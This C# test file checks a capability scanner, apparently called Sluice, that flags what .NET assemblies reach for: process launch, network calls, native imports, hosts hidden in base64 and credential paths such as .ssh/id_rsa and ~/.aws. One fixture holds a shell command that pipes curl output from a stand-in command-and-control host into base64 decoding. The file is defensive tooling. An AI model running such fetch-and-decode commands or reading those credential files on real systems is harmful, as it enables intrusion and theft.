using Sluice.Profiles;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>What assemblies of .NET reach for is read off their metadata.</summary>
public sealed class ManagedReadingTests
{
    [Theory]
    [InlineData("System.Diagnostics.Process.Start", "Process")]
    [InlineData("System.Diagnostics.Process.GetCurrentProcess", "None")]
    [InlineData("System.Net.WebClient.DownloadFile", "Network")]
    [InlineData("System.Net.Http.HttpClient.GetStringAsync", "Network, NetworkModules")]
    [InlineData("System.Net.Http.HttpClient.set_Timeout", "NetworkModules")]
    [InlineData("System.Net.Sockets.TcpClient..ctor", "Network")]
    [InlineData("System.Net.Dns.GetHostName", "None")]
    [InlineData("System.Net.Dns.GetHostEntry", "Network")]
    [InlineData("System.Net.IPAddress.Parse", "None")]
    [InlineData("System.Reflection.Assembly.LoadFrom", "Evaluation")]
    [InlineData("System.Reflection.Assembly.Load", "None")]
    [InlineData("System.Runtime.InteropServices.NativeLibrary.Load", "NativeCode")]
    [InlineData("System.Runtime.InteropServices.DefaultDllImportSearchPathsAttribute..ctor", "None")]
    [InlineData("System.Environment.GetEnvironmentVariable", "Environment")]
    [InlineData("System.Environment.get_NewLine", "None")]
    [InlineData("System.IO.File.WriteAllBytes", "FileSystem")]
    [InlineData("System.IO.File.Exists", "None")]
    [InlineData("Microsoft.Win32.RegistryKey.SetValue", "FileSystem")]
    [InlineData("Acme.Process.Start", "None")]
    public void By_the_members_that_it_refers_to(string member, string expected) => Assert.Equal(expected, Read(new TestLibrary().Calls(member)).Capabilities.ToString());

    [Fact]
    public void A_program_that_is_loaded_from_bytes_is_evaluated() => Assert.Equal(Capabilities.Evaluation, Read(new TestLibrary().Calls("System.Reflection.Assembly.Load", takesBytes: true)).Capabilities);

    [Theory]
    [InlineData("kernel32", "GetTickCount", "NativeCode")]
    [InlineData("libc", "system", "Process, NativeCode")]
    [InlineData("shell32", "ShellExecuteW", "Process, NativeCode")]
    [InlineData("kernel32", "CreateProcess", "Process, NativeCode")]
    [InlineData("kernel32", "WriteProcessMemory", "Process, NativeCode")]
    [InlineData("ws2_32", "connect", "Network, NativeCode")]
    public void By_the_functions_that_it_imports(string library, string function, string expected) => Assert.Equal(expected, Read(new TestLibrary().Imports(library, function)).Capabilities.ToString());

    [Fact]
    public void Code_that_runs_when_it_is_loaded_is_told() => Assert.Equal(Capabilities.ModuleStart, Read(new TestLibrary().RunsWhenLoaded()).Capabilities);

    [Fact]
    public void Programs_that_it_starts_are_those_of_its_literals()
    {
        var traits = Read(new TestLibrary().Calls("System.Diagnostics.Process.Start").Writes("/bin/sh", "-c \"curl -s https://c2.example/x | base64 -d\"", "tool.exe", "some words about bash"));

        Assert.Equal(["base64", "curl", "sh", "tool"], traits.Literals.Programs);
        Assert.Equal(["c2.example"], traits.CalledHosts);
    }

    [Fact]
    public void Names_of_shells_are_words_where_no_program_is_started() => Assert.Empty(Read(new TestLibrary().Writes("sh", "bash", "cmd", "/bin/sh")).Literals.Programs);

    [Fact]
    public void Hosts_are_reached_where_it_reaches_out()
    {
        var (quiet, reaching) = (Read(new TestLibrary().Writes("see https://docs.example/page")), Read(new TestLibrary().Calls("System.Net.WebClient..ctor").Writes("https://collect.example/upload")));

        Assert.Equal(["docs.example"], quiet.Hosts);
        Assert.Empty(quiet.ReachedHosts);
        Assert.Equal(["collect.example"], reaching.ReachedHosts);
    }

    [Fact]
    public void What_it_decodes_first_is_read_as_well()
    {
        var encoded = Convert.ToBase64String("https://collect.example/a"u8);

        Assert.Equal(["collect.example"], Read(new TestLibrary().Calls("System.Convert.FromBase64String").Writes(encoded, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")).CalledHosts);
        Assert.Empty(Read(new TestLibrary().Writes(encoded)).Hosts);
    }

    [Theory]
    [InlineData(".ssh/id_rsa", "ssh-keys")]
    [InlineData("C:\\Users\\x\\.ssh", "ssh-keys")]
    [InlineData("a \"quoted\" ~/.aws", "aws-credentials")]
    public void Places_of_people_are_known(string literal, string place) => Assert.Equal([place], Read(new TestLibrary().Writes(literal)).Literals.Places);

    [Fact]
    public void A_type_that_starts_programs_may_be_found_by_its_name()
    {
        Assert.Equal(Capabilities.Process, Read(new TestLibrary().Calls("System.Type.GetType").Writes("System.Diagnostics.Process, System")).Capabilities);
        Assert.Equal(Capabilities.None, Read(new TestLibrary().Writes("System.Diagnostics.Process")).Capabilities);
    }

    [Fact]
    public void Many_and_long_literals_cost_what_they_are_long()
    {
        var traits = Read(new TestLibrary().Writes([.. Enumerable.Range(0, 20_000).Select(i => i + "\\\"\u4e00")]).Writes(new string('"', 100_000), "https://c2.example/"));

        Assert.Equal(["c2.example"], traits.Hosts);
    }

    [Fact]
    public void What_is_damaged_is_left_to_who_opens_it()
    {
        var file = new TestLibrary().Calls("System.Diagnostics.Process.Start").Writes("/bin/sh").Build();
        for (var at = 0; at < file.Length; at += 3)
        {
            var damaged = file.ToArray();
            damaged[at] ^= 0xff;
            ManagedReading.Of(damaged);
            ManagedReading.Of(file.AsMemory(0, at));
        }
    }

    [Theory]
    [InlineData("[DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]", "None")]
    [InlineData("[DllImport(\"libc\")] static extern int getpid();", "NativeCode")]
    [InlineData("log(\"use ProcessBuilder\");", "None")]
    [InlineData("new ProcessBuilder(\"id\").start();", "Process")]
    public void Of_sources_whole_names_count(string text, string expected) => Assert.Equal(expected, ContentTraits.Of(System.Text.Encoding.UTF8.GetBytes(text), CodeDialect.Slashes, 1).Capabilities.ToString());

    private static ContentTraits Read(TestLibrary library) => ManagedReading.Of(library.Build())!;
}
